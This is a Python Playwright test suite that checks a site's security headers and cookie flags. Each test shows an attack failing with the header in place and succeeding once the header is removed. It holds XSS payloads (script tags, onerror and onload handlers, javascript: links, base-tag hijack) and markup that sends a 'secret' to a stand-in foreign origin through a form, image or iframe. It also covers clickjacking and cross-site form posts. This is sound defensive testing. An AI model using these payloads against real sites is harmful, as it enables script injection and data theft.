"""What our headers and cookies keep a real browser from, and that it would do it without them.

The pages are those of the running site with their own headers. Something harmful is put into a page as if it had got there by a
fault of ours; then the same page comes once more with one header left out, and the harm is done.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Page, Route, expect

from tests.journeys.buyer import sign_in
from tests.journeys.conftest import DESKTOP
from tests.journeys.site import RunningSite

pytestmark = [pytest.mark.journey, pytest.mark.xdist_group("journeys")]
CSP, FRAMES = "content-security-policy", "x-frame-options"
AT_ONCE, PATIENTLY = 0.5, 10.0
OF_THE_WIRE = {"content-encoding", "content-length", "transfer-encoding"}


@dataclass
class Stage:
    """A window, our site, and another site of somebody else's, which notes what reaches it."""

    site: RunningSite
    page: Page
    taken: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)
    foreign_page: str = ""

    def __post_init__(self) -> None:
        self.page.context.route(f"{self.elsewhere}/**", self._take)
        self.page.on("console", lambda said: self.refused.append(said.text))

    @property
    def elsewhere(self) -> str:
        """To a browser a site of its own: neither the origin nor the site is ours."""
        return self.site.cards.replace("127.0.0.1", "localhost")

    def _take(self, route: Route) -> None:
        self.taken.append(f"{route.request.url} from {route.request.headers.get('referer', 'nowhere')}")
        if route.request.url.endswith(".js"):
            route.fulfill(body="window.harm = 1", content_type="text/javascript")
        else:
            route.fulfill(body=self.foreign_page, content_type="text/html; charset=utf-8")

    def change(self, path: str, *, put_in: str = "", whole: str = "", without: tuple[str, ...] = ()) -> None:
        """From now on our site's answer at ``path`` comes with this in it and without these headers."""

        def answer(route: Route) -> None:
            real = route.fetch()
            headers = {name: said for name, said in real.headers.items() if name not in {*without, *OF_THE_WIRE}}
            body = whole.encode() or real.body().replace(b"</main>", put_in.encode() + b"</main>")
            route.fulfill(status=real.status, headers=headers, body=body)

        self.page.context.unroute(f"{self.site.address}{path}")
        self.page.context.route(f"{self.site.address}{path}", answer)

    def open_ours(self, path: str) -> None:
        self.page.goto(f"{self.site.address}{path}")

    def open_theirs(self, html: str) -> None:
        self.foreign_page = html
        self.page.goto(f"{self.elsewhere}/their-page/")

    def comes_true(self, script: str, seconds: float) -> bool:
        """Whether it does within that time, in the window as it is then."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if self.page.evaluate(script):
                return True
            self.page.wait_for_timeout(50)
        return False


@pytest.fixture
def stage(site: RunningSite, open_browser: Callable[..., Page]) -> Iterator[Stage]:
    page = open_browser(DESKTOP)
    yield Stage(site, page)
    page.context.unroute_all()


# What a page with a fault might hold: the markup, and how one sees that it had its way.
RUN = "window.harm === 1"
PUT_IN = {
    "a script": ("<script>window.harm = 1</script>", RUN),
    "a picture that fails": ("<img src='/no-such-picture.png' onerror='window.harm = 1'>", RUN),
    "a drawing": ("<svg onload='window.harm = 1'></svg>", RUN),
    "a link that is a script": ("<a id=bait href='javascript:void(window.harm = 1)'>続ける</a>", RUN),
    "a script from elsewhere": ("<script src='{elsewhere}/theirs.js'></script>", RUN),
    "a style": (
        "<style>h1 {{ z-index: 77 }}</style>",
        "getComputedStyle(document.querySelector('h1')).zIndex === '77'",
    ),
    "another base": ("<base href='{elsewhere}/'>", "document.baseURI.startsWith('{elsewhere}')"),
}
SENT_AWAY = {
    "a form": "<form action='{elsewhere}/take/'><input name=typed value=secret><button id=bait>送る</button></form>",
    "a picture": "<img src='{elsewhere}/take/?secret'>",
    "a frame": "<iframe src='{elsewhere}/take/?secret'></iframe>",
}


def take_the_bait(stage: Stage) -> None:
    if stage.page.locator("#bait").count():
        stage.page.locator("#bait").click(no_wait_after=True)


@pytest.mark.parametrize("harm", PUT_IN)
def test_what_was_put_into_a_page_does_nothing_and_without_the_rules_it_does(stage: Stage, harm: str) -> None:
    markup, seen = (text.replace("{elsewhere}", stage.elsewhere) for text in PUT_IN[harm])
    markup = markup.replace("{{", "{").replace("}}", "}")
    stage.change("/premium/", put_in=markup)
    stage.open_ours("/premium/")
    take_the_bait(stage)
    assert not stage.comes_true(seen, AT_ONCE)
    assert "Content Security Policy" in " ".join(stage.refused)
    stage.change("/premium/", put_in=markup, without=(CSP,))
    stage.open_ours("/premium/")
    take_the_bait(stage)
    assert stage.comes_true(seen, PATIENTLY)


@pytest.mark.parametrize("harm", SENT_AWAY)
def test_nothing_leaves_a_page_for_elsewhere_and_without_the_rules_it_does(stage: Stage, harm: str) -> None:
    markup = SENT_AWAY[harm].replace("{elsewhere}", stage.elsewhere)
    stage.change("/premium/", put_in=markup)
    stage.open_ours("/premium/")
    take_the_bait(stage)
    stage.page.wait_for_timeout(500)
    assert stage.taken == []
    assert "Content Security Policy" in " ".join(stage.refused)
    stage.change("/premium/", put_in=markup, without=(CSP,))
    with stage.page.expect_request(f"{stage.elsewhere}/take/**"):
        stage.open_ours("/premium/")
        take_the_bait(stage)
    stage.page.wait_for_timeout(500)
    assert "secret" in stage.taken[0]


@pytest.mark.parametrize("without", [(), (CSP,), (FRAMES,)], ids=["both", "one", "the other"])
def test_no_page_of_ours_is_shown_in_a_frame_of_others_and_without_both_guards_it_is(
    stage: Stage, without: tuple[str, ...]
) -> None:
    frame = f"<h1>当選おめでとうございます</h1><iframe src='{stage.site.address}/sign-in/'></iframe>"
    stage.change("/sign-in/", without=without)
    stage.open_theirs(frame)
    stage.page.wait_for_timeout(500)
    framed = stage.page.frame_locator("iframe").locator("input[type=email]")
    assert framed.count() == 0
    stage.change("/sign-in/", without=(CSP, FRAMES))
    stage.open_theirs(frame)
    expect(framed).to_be_visible()


def test_a_text_of_ours_is_never_run_as_a_script_and_without_its_header_it_is(stage: Stage) -> None:
    stage.change("/premium/", put_in="<script src='/robots.txt'></script>")
    stage.change("/robots.txt", whole="window.harm = 1")
    stage.open_ours("/premium/")
    assert not stage.comes_true(RUN, AT_ONCE)
    stage.change("/robots.txt", whole="window.harm = 1", without=("x-content-type-options",))
    stage.open_ours("/premium/")
    assert stage.comes_true(RUN, PATIENTLY)


def test_who_goes_elsewhere_is_not_told_from_where_and_without_the_header_is(stage: Stage) -> None:
    link = f"<a id=bait href='{stage.elsewhere}/take/'>よそへ</a>"
    for without in ((), ("referrer-policy",)):
        stage.change("/premium/", put_in=link, without=without)
        stage.open_ours("/premium/")
        take_the_bait(stage)
        expect(stage.page).to_have_url(f"{stage.elsewhere}/take/")
    ours = f"{stage.site.address}/"
    assert stage.taken == [f"{stage.elsewhere}/take/ from {place}" for place in ("nowhere", ours)]


def test_others_can_not_load_what_is_ours_and_without_the_header_they_can(stage: Stage) -> None:
    loads = (
        f"<script src='{stage.site.address}/robots.txt' onload='window.harm = 1' onerror='window.refused = 1'></script>"
    )
    stage.open_theirs(loads)
    assert stage.comes_true("window.refused === 1", PATIENTLY)
    stage.change("/robots.txt", whole="1", without=("cross-origin-resource-policy", "x-content-type-options"))
    stage.open_theirs(loads)
    assert stage.comes_true(RUN, PATIENTLY)


def test_who_opens_our_page_has_no_hold_on_its_window_and_without_the_header_has(stage: Stage) -> None:
    opens = f"<button id=bait onclick=\"window.ours = window.open('{stage.site.address}/sign-in/')\">開く</button>"
    for without, held in (((), False), (("cross-origin-opener-policy",), True)):
        stage.change("/sign-in/", without=without)
        stage.open_theirs(opens)
        with stage.page.context.expect_page() as opened:
            take_the_bait(stage)
        expect(opened.value.locator("input[type=email]")).to_be_visible()
        assert stage.page.evaluate("window.ours.closed") is not held
        opened.value.close()


@pytest.mark.parametrize("sense", ["camera", "microphone", "geolocation", "payment", "usb"])
def test_no_page_may_ask_for_a_sense_of_the_machine_and_without_the_header_it_may(stage: Stage, sense: str) -> None:
    may = f"document.featurePolicy.allowsFeature('{sense}')"
    stage.open_ours("/premium/")
    assert not stage.page.evaluate(may)
    stage.change("/premium/", without=("permissions-policy",))
    stage.open_ours("/premium/")
    assert stage.page.evaluate(may)


@pytest.fixture
def signed_in(stage: Stage) -> Stage:
    member = stage.site.enter_member("サンプル商店")
    sign_in(stage.page, stage.site, "", member.email)
    return stage


def loosen_cookies(stage: Stage, **loosened: object) -> None:
    """The same cookies again, one flag of theirs changed."""
    held = stage.page.context.cookies(stage.site.address)
    assert {cookie["name"] for cookie in held} == {"sessionid", "csrftoken"}
    stage.page.context.add_cookies([{**cookie, **loosened} for cookie in held])  # type: ignore[list-item,misc]


def test_no_script_reads_a_cookie_and_without_the_flag_it_does(signed_in: Stage) -> None:
    assert signed_in.page.evaluate("document.cookie") == ""
    loosen_cookies(signed_in, httpOnly=False)
    read = signed_in.page.evaluate("document.cookie")
    assert "sessionid=" in read
    assert "csrftoken=" in read


def test_a_form_of_others_brings_no_cookie_and_without_the_flag_it_does(signed_in: Stage) -> None:
    form = f"<form method=post action='{signed_in.site.address}/sign-out/'><button id=bait>送る</button></form>"
    brought = []
    for loosened in ({}, {"sameSite": "None", "secure": True}):
        loosen_cookies(signed_in, **loosened)
        signed_in.open_theirs(form)
        with signed_in.page.expect_response(f"{signed_in.site.address}/sign-out/") as answered:
            take_the_bait(signed_in)
        expect(signed_in.page).to_have_url(f"{signed_in.site.address}/sign-out/")
        assert answered.value.status == 403  # without our token it is refused all the same
        brought.append("sessionid=" in answered.value.request.all_headers().get("cookie", ""))
    assert brought == [False, True]
